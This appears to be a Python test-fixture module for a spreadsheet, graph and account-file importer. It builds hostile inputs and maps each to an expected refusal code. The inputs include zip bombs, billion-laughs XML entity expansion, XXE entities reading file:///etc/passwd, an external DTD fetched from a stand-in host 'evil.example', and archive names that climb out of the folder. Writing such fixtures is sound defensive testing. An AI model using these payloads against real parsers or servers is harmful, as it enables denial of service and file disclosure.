"""Files made to hurt, and files that only look odd: name → how the bytes are made."""

import io
import json
import zipfile
from collections.abc import Callable

from tests.importers.making import workbook

MEGA = 1024 * 1024
Make = Callable[[], bytes]

#: Streams written once: a workbook holds the time it was made.
SMALL = workbook(S=[["Name", "Title"], ["Anna", "CEO"]])
SHEET = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s</worksheet>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
GRAPHML = b'<graphml xmlns="http://graphml.graphdrawing.org/xmlns">%s</graphml>'
NAME_KEY = b'<key id="d0" for="node" attr.name="name" attr.type="string"/>'


def with_parts(base: bytes, **changed: bytes) -> bytes:
    """Return a workbook with some of its parts replaced (``__`` stands for ``/``)."""
    parts = {name.replace("__", "/") + ".xml": content for name, content in changed.items()}
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, parts.pop(name, None) or old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return stream.getvalue()


def sheet(content: bytes) -> bytes:
    return with_parts(SMALL, xl__worksheets__sheet1=SHEET % content)


def cell(at: bytes, text: bytes) -> bytes:
    return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (at, text)


def rows(*lines: bytes) -> bytes:
    return (
        b"<sheetData>"
        + b"".join(b'<row r="%d">%s</row>' % (n, line) for n, line in enumerate(lines, 1))
        + b"</sheetData>"
    )


def archive(**parts: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name.replace("__", "/"), content)
    return stream.getvalue()


def sparse() -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return sheet(b"<sheetData>" + cell(b"A1", b"Name").join([b'<row r="1">', b"</row>"]) + far
                 + b"</sheetData>")  # fmt: skip


def bomb(name: str = "xl/more.xml", size: int = 400) -> bytes:
    stream = io.BytesIO(SMALL)
    with (
        zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as into,
        into.open(name, "w", force_zip64=True) as part,
    ):
        for _ in range(size):
            part.write(b" " * MEGA)
    return stream.getvalue()


def bomb_as_sheet() -> bytes:
    """The sheet itself is the bomb, under a name that does not look like XML."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(SMALL)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            content = old.read(name).replace(b"sheet1.xml", b"sheet1.bin")
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, content)
        with new.open("xl/worksheets/sheet1.bin", "w") as part:
            part.write(b"<worksheet>")
            for _ in range(300):
                part.write(b" " * MEGA)
    return stream.getvalue()


def huge_cell(megabytes: int) -> bytes:
    """A cell of so many megabytes, in a file of a few kilobytes."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(SMALL)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, old.read(name))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b'<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
            for _ in range(megabytes):
                part.write(b"x" * MEGA)
            part.write(b"</t></is></c></row></sheetData></worksheet>")
    return stream.getvalue()


def lying_sizes() -> bytes:
    """The directory says that the bomb is one byte long."""
    data = bytearray(bomb(size=80))
    real = (80 * MEGA).to_bytes(4, "little")
    for at in (data.find(real), data.rfind(real)):
        data[at : at + 4] = (1).to_bytes(4, "little")
    return bytes(data)


def shared_strings(count: int, length: int) -> bytes:
    body = b"<si><t>%s</t></si>" % (b"y" * length) * count
    table = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + body
        + b"</sst>"
    )
    base = workbook(S=[["Name", "Title"], ["Anna", "CEO"]])
    return with_parts(base, xl__sharedStrings=table)


def encrypted() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    )


def nested_zip(depth: int = 30) -> bytes:
    data = SMALL
    for _ in range(depth):
        data = archive(inner__zip=data)
    return data


def deep(xml: bytes, times: int) -> bytes:
    return b"<%s>" % xml * times + b"</%s>" % xml * times


def graph_nodes(count: int) -> bytes:
    return GRAPHML % (
        b"<graph>" + b"".join(b'<node id="%d"/>' % n for n in range(count)) + b"</graph>"
    )


def entity_graph(declared: bytes, used: bytes = b"&x;") -> bytes:
    body = GRAPHML % (NAME_KEY + b'<graph><node id="n"><data key="d0">' + used
                      + b"</data></node></graph>")  # fmt: skip
    return b'<?xml version="1.0"?><!DOCTYPE graphml [' + declared + b"]>" + body


def old_excel() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Workbook".ljust(4000, b"\0")


#: name → (file name, bytes, code of the refusal)
HOSTILE: dict[str, tuple[str, Make, str]] = {
    # Size
    "no byte at all": ("a.csv", lambda: b"", "file_empty"),
    "only a byte order mark": ("a.csv", lambda: b"\xef\xbb\xbf", "file_empty"),
    "only blanks": ("a.csv", lambda: b"  \n , \n\t" * 1000, "file_empty"),
    "two hundred megabytes of text": (
        "a.csv", lambda: b"Name,Title\n" * 19_000_000, "file_too_large"),
    "a million rows": ("a.csv", lambda: b"Name\n" + b"x\n" * 1_000_000, "file_too_many_cells"),
    "a row of a million columns": (
        "a.csv", lambda: b"Name" + b"," * 1_000_000, "file_too_many_cells"),
    "sixteen thousand columns": (
        "a.csv", lambda: b",".join(b"Name%d" % n for n in range(16_384)), "file_too_many_cells"),
    "a cell of two megabytes": (
        "a.csv", lambda: b'Name,Title\n"' + b"x" * (2 * MEGA) + b'",CEO', "file_cell_too_long"),
    "quotes that never close": (
        "a.csv", lambda: b'Name,"' + b"a,b\n" * 500_000, "file_cell_too_long"),
    # Workbooks
    "a cell in the last corner": ("a.xlsx", sparse, "file_too_many_cells"),
    "sixteen thousand columns of a workbook": (
        "a.xlsx",
        lambda: sheet(rows(cell(b"A1", b"Name") + cell(b"XFD1", b"Title"))),
        "file_too_many_cells",
    ),
    "millions of values": (
        "a.xlsx",
        lambda: sheet(b"<sheetData><row>" + b"<c><v>1</v></c>" * 4_100_000 + b"</row></sheetData>"),
        "file_too_many_cells",
    ),
    "a cell of two megabytes in a workbook": (
        "a.xlsx", lambda: sheet(rows(cell(b"A1", b"x" * (2 * MEGA)))), "file_cell_too_long"),
    "a cell of two gigabytes": ("a.xlsx", lambda: huge_cell(2048), "file_unpacks"),
    "four hundred megabytes in a small file": ("a.xlsx", bomb, "file_unpacks"),
    "a bomb called otherwise": ("a.xlsx", bomb_as_sheet, "file_unpacks"),
    "a directory that lies about sizes": ("a.xlsx", lying_sizes, "file_damaged"),
    "shared strings without end": (
        "a.xlsx", lambda: shared_strings(3_000_000, 8), "file_unpacks"),
    "entities that grow": (
        "a.xlsx",
        lambda: with_parts(
            SMALL, xl__worksheets__sheet1=LAUGHS + SHEET % rows(cell(b"A1", b"&j;"))
        ),
        "file_entities",
    ),
    "the same in another encoding": (
        "a.xlsx",
        lambda: with_parts(
            SMALL,
            xl__worksheets__sheet1=(LAUGHS + SHEET % b"<sheetData/>").decode().encode("utf-16"),
        ),
        "file_entities",
    ),
    "entities in the shared strings": (
        "a.xlsx",
        lambda: with_parts(SMALL, xl__sharedStrings=LAUGHS + b"<sst><si><t>&j;</t></si></sst>"),
        "file_entities",
    ),
    "a file of the machine as an entity": (
        "a.xlsx",
        lambda: with_parts(
            SMALL,
            xl__workbook=b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;'
            b"</workbook>",
        ),
        "file_entities",
    ),
    "cells that never close": ("a.xlsx", lambda: sheet(b'<c r="A1" ' * 3_000_000), "file_damaged"),
    "attributes without end": (
        "a.xlsx", lambda: sheet(b"<c" + b' r="A1"' * 4_000_000), "file_damaged"),
    "a hundred thousand elements in each other": (
        "a.xlsx", lambda: sheet(deep(b"a", 100_000)), "file_empty"),
    "a sheet that is no XML": (
        "a.xlsx",
        lambda: with_parts(SMALL, xl__worksheets__sheet1=b"\x00\x01 no xml"),
        "file_damaged",
    ),
    "a cell that stands nowhere": (
        "a.xlsx", lambda: sheet(rows(b'<c r="A99999999999"><v>1</v></c>')), "file_damaged"),
    "a string that is not there": (
        "a.xlsx", lambda: sheet(rows(b'<c r="A1" t="s"><v>99999</v></c>')), "file_damaged"),
    "a workbook cut in half": ("a.xlsx", lambda: SMALL[: len(SMALL) // 2], "file_damaged"),
    "a workbook without its directory": ("a.xlsx", lambda: SMALL[:-40], "file_damaged"),
    "a workbook with no sheet": (
        "a.xlsx", lambda: with_parts(SMALL, xl__workbook=b"<workbook/>"), "file_empty"),
    "a workbook behind a password": ("a.xlsx", encrypted, "file_password"),
    "an Excel file of the old kind": ("a.xls", old_excel, "file_old_excel"),
    # Archives
    "an archive that is no workbook": ("a.zip", lambda: archive(a__txt=b"x"), "file_kind_unknown"),
    "archives in archives": ("a.zip", nested_zip, "file_kind_unknown"),
    "names that climb out of the folder": (
        "a.xlsx",
        lambda: archive(**{"..__..__etc__passwd": b"x", "__root__x.xml": b"y"}),
        "file_kind_unknown",
    ),
    "a Word document": (
        "a.docx", lambda: archive(word__document__xml=b"<x/>"), "file_kind_unknown"),
    "two thousand parts": (
        "a.xlsx",
        lambda: archive(
            **{"xl__workbook.xml": b"<x/>", **{f"xl__p{n}.xml": b"" for n in range(2000)}}
        ),
        "file_unpacks",
    ),
    # Graphs
    "a graph that laughs": ("a.graphml", lambda: LAUGHS + GRAPHML % b"&j;", "xml_entities"),
    "a graph that reads a file": (
        "a.graphml",
        lambda: entity_graph(b'<!ENTITY x SYSTEM "file:///etc/passwd">'),
        "xml_entities",
    ),
    "a graph that calls home": (
        "a.graphml",
        lambda: entity_graph(b'<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;', b""),
        "xml_entities",
    ),
    "a graph with one harmless entity": (
        "a.gexf", lambda: entity_graph(b'<!ENTITY x "y">'), "xml_entities"),
    "quadratic growth": (
        "a.graphml",
        lambda: entity_graph(b'<!ENTITY x "%s">' % (b"z" * 100_000), b"&x;" * 10_000),
        "xml_entities",
    ),
    "a graph nested a million deep": (
        "a.graphml", lambda: GRAPHML % deep(b"graph", 1_000_000), "xml_deep"),
    "a graph of a hundred thousand nodes": (
        "a.graphml", lambda: graph_nodes(100_000), "file_too_many_cells"),
    "a graph with a node of a megabyte": (
        "a.graphml",
        lambda: GRAPHML % (NAME_KEY + b'<graph><node id="n"><data key="d0">' + b"x" * MEGA
                           + b"</data></node></graph>"),
        "file_cell_too_long",
    ),
    "a graph cut in half": ("a.graphml", lambda: graph_nodes(50)[:200], "xml_damaged"),
    "a graph without nodes": ("a.gexf", lambda: b"<gexf><graph/></gexf>", "file_no_people"),
    "a graph of attributes": (
        "a.graphml", lambda: b"<graphml" + b' a="1"' * 1_000_000 + b"/>", "xml_damaged"),
    # What is no table
    "a program": ("a.csv", lambda: b"\x7fELF" + b"\0\1\2\3" * 5000, "file_binary"),
    "a picture": ("a.csv", lambda: b"\x89PNG\r\n" + b"x" * 500, "file_kind_unknown"),
    "an encoding that is none": (
        "a.csv", lambda: b"Name\n" + b"\xff\xfe\x00\xd8" * 50, "file_encoding"),
    "quoted-printable nonsense": (
        "a.csv", lambda: b"=4E=61=6D=65=2C=\r\n" * 60_000, "file_too_many_cells"),
}  # fmt: skip


def nested_json(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


#: Account files: (bytes, code of the refusal)
HOSTILE_JSON: dict[str, tuple[Make, str]] = {
    "not a number": (lambda: b'{"format": 1, "account": {"name": NaN}}', "file_number"),
    "more than any number": (
        lambda: b'{"format": 1, "account": {"name": "P", "limits": {"commitment": 1e999}}}',
        "file_number",
    ),
    "minus infinity": (lambda: b'{"format": 1, "account": {"name": -Infinity}}', "file_number"),
    "a hundred thousand brackets": (lambda: nested_json(100_000), "file_nesting"),
    "a key twice": (lambda: b'{"format": 1, "format": 1}', "file_key_twice"),
    "a number of a million digits": (
        lambda: b'{"format": ' + b"9" * 1_000_000 + b"}", "file_number"),
    "a file cut short": (lambda: json.dumps({"format": 1}).encode()[:-1], "file_json"),
}  # fmt: skip
